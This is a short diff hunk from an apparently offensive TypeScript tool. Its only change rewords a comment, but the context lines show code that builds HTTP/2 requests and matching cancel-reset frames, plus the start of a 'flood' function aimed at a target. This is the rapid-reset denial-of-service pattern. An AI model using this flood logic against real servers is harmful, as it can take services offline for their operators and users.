@@ -35,7 +35,7 @@ const takenBack = (path: string, count: number): Buffer =>
     Array.from({ length: count }, (_, i) => [request(2 * i + 1, path), frame(TYPE.reset, 0, 2 * i + 1, CANCEL)]).flat(),
   );
 
-/** Sends what nobody answers and nobody reads, until the connection is closed. */
+/** Sends requests without a response, and reads nothing, until the connection is closed. */
 const flood =
   (piece: Buffer, begin: Buffer = Buffer.alloc(0)) =>
   async ({ target }: Attack): Promise<void> => {
